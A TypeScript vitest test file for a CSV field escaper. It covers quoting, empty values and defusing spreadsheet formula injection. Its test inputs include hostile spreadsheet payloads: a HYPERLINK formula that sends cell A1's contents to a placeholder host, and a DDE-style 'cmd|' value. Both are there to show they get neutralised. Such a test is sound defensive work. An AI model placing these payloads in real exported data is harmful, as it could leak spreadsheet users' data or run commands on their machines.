import { expect, test } from 'vitest';
import { csvField } from './csv.ts';

test.each<[string | number | null, string]>([
  ['conv1', 'conv1'],
  ['a, b', '"a, b"'],
  ['say "a"', '"say ""a"""'],
  ['two\nlines', '"two\nlines"'],
  [null, ''],
  [Number.NaN, ''],
  [Number.POSITIVE_INFINITY, ''],
  [-0.5, '-0.5'],
  [0, '0'],
  // what a spreadsheet would compute
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '"\'=HYPERLINK(""http://example.invalid/?""&A1,""x"")"'],
  ['+1', "'+1"],
  ['-1+cmd|x', "'-1+cmd|x"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
])('%j is %j', (value, expected) => {
  expect(csvField(value)).toBe(expected);
});
